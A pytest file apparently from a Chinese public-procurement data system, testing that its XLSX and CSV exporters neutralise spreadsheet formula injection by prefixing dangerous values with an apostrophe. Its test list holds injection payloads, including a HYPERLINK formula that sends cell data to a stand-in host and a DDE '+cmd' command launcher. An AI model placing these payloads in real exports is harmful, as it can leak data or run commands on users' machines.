"""Spreadsheet exports never turn provincial text into a formula (CSV/formula injection).

Each exporter is given a value that a spreadsheet program would run (``=HYPERLINK(…)``, ``+cmd``,
``-2+3``, ``@SUM(…)``, a leading tab or carriage return) and the written file must hold it as text.
Before, only the audit export did this, and only for = + - @.
"""

from __future__ import annotations

import csv
import datetime as dt
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook

from ggzy.interchange.spreadsheet import safe_cell, safe_row

ATTACKS = [
    '=HYPERLINK("http://x.example/?"&A1,"点击")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]


def _cells(path: Path) -> list[Any]:
    workbook = load_workbook(path)
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def _no_formula_holds(path: Path, attack: str) -> None:
    cells = _cells(path)
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a cell became a formula"
    assert any(c.value == "'" + attack for c in cells), f"{attack!r} not written as text"


@pytest.mark.parametrize("attack", ATTACKS)
def test_the_helper_makes_each_formula_start_text(attack: str) -> None:
    assert safe_cell(attack) == "'" + attack
    assert safe_row([attack, 3, -2, None, "普通文字"]) == ["'" + attack, 3, -2, None, "普通文字"]


def test_the_validation_report_workbook(tmp_path: Path) -> None:
    from ggzy.validation.findings import Finding, RecordVerdict, Severity
    from ggzy.validation.report import Report, write_xlsx

    attack = ATTACKS[0]
    finding = Finding("E-FIELD-LENGTH", Severity.ERROR, "BID_SECTION_NAME", attack, "过长", "too long")
    verdict = RecordVerdict(source="a.jsonl", line=1, table="SECTION", key=attack, findings=[finding])
    report = Report()
    report.add(verdict)
    write_xlsx(tmp_path / "r.xlsx", report, [verdict])
    _no_formula_holds(tmp_path / "r.xlsx", attack)


def test_the_operations_exports(tmp_path: Path) -> None:
    from ggzy.hub.ops.exports import Report, Section, write_xlsx

    attack = ATTACKS[1]
    write_xlsx(
        Report("考核", "2026-10", [Section("通报", ["省份", "说明"], [["35", attack]])]), tmp_path / "o.xlsx"
    )
    _no_formula_holds(tmp_path / "o.xlsx", attack)


def test_the_feedback_explorer_export(monkeypatch: pytest.MonkeyPatch) -> None:
    from io import BytesIO

    from ggzy.hub.portal import feedback

    attack = ATTACKS[3]
    row = [
        "2026-11-27 10:00:00",
        "35 福建省",
        "fj-01",
        "b1",
        2,
        "SECTION",
        "标段",
        attack,
        "E-X",
        "错误",
        "F",
        attack,
        "说明",
    ]
    monkeypatch.setattr(feedback, "_export_rows", lambda *_args: iter([row]))
    content, count = feedback.export_xlsx(None, None, None)  # type: ignore[arg-type]
    assert count == 1
    cells = [c for r in load_workbook(BytesIO(content)).active.iter_rows() for c in r]
    assert not [c for c in cells if c.data_type == "f"] and ("'" + attack) in [c.value for c in cells]


def test_the_statistics_workbook(tmp_path: Path) -> None:
    from openpyxl import Workbook

    from ggzy.cli.hub_stats import _sheet

    attack = ATTACKS[2]
    book = Workbook()
    _sheet(book, "按规则", ["代码", "规则"], [["E-X", attack]], set())
    book.save(tmp_path / "s.xlsx")
    _no_formula_holds(tmp_path / "s.xlsx", attack)


def test_the_audit_csv_export_covers_tab_and_carriage_return(tmp_path: Path) -> None:
    from ggzy.security.audit_search import _cell

    for attack in ATTACKS:
        assert _cell("object", attack) == "'" + attack
    assert _cell("at", dt.datetime(2026, 1, 1, tzinfo=dt.UTC)) == "2026-01-01 08:00:00"  # Beijing time
    path = tmp_path / "a.csv"
    with path.open("w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerow([_cell("object", a) for a in ATTACKS])
    with path.open(newline="", encoding="utf-8") as handle:
        assert all(value.startswith("'") for value in next(csv.reader(handle)))


def test_characters_a_workbook_cannot_hold_are_replaced(tmp_path: Path) -> None:
    """An audit entry with a control character made the whole xlsx export fail (found by the fuzz run)."""
    from openpyxl import Workbook

    book = Workbook()
    book.active.append(safe_row(["a\x00b\x1fc", "\x07=cmd"]))
    book.save(tmp_path / "c.xlsx")
    assert [c.value for c in load_workbook(tmp_path / "c.xlsx").active[1]] == [
        "a\ufffdb\ufffdc",
        "\ufffd=cmd",
    ]
